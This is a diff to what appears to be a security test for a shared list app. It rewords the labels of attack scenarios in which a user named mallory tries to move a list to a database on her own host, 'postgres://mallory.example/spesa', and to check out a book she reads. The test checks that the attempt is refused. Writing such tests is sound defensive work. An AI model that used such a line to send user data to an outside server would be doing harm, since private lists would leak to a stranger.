@@ -28,7 +28,7 @@ def prove(claim):
                     prepare(users)
                 answer = attempt.run(home.anna, *words)
                 if answer.code == 0 or "mallory.example" in attack.said(answer):
-                    attempt.gain("what mallory wrote is taken as a fact")
+                    attempt.gain("mallory's address is reported as a fact")
                 attempt.must_not_read(home.named("mallory"), second)
                 return attack.refusal(answer)
             return way
@@ -37,10 +37,10 @@ def prove(claim):
             users.execute("UPDATE book SET removed = 1 WHERE id IN (SELECT book FROM member WHERE name = 'trip')")
 
         attack.tried(claim, home, {
-            "moved to a server of hers": stated(
+            "moved to a server of mallory's": stated(
                 f"moved-to.{attack.book(home, 'anna', 'trip')}", "trip postgres://mallory.example/spesa", removed,
                 "list", "--book", "trip"),
-            "taken from a book that she reads": stated(
+            "checked out from a book that mallory reads": stated(
                 f"taken-from.{private}", f"{{}} {flat}", lambda users: None, "book", "bring", "anna")})
 
 
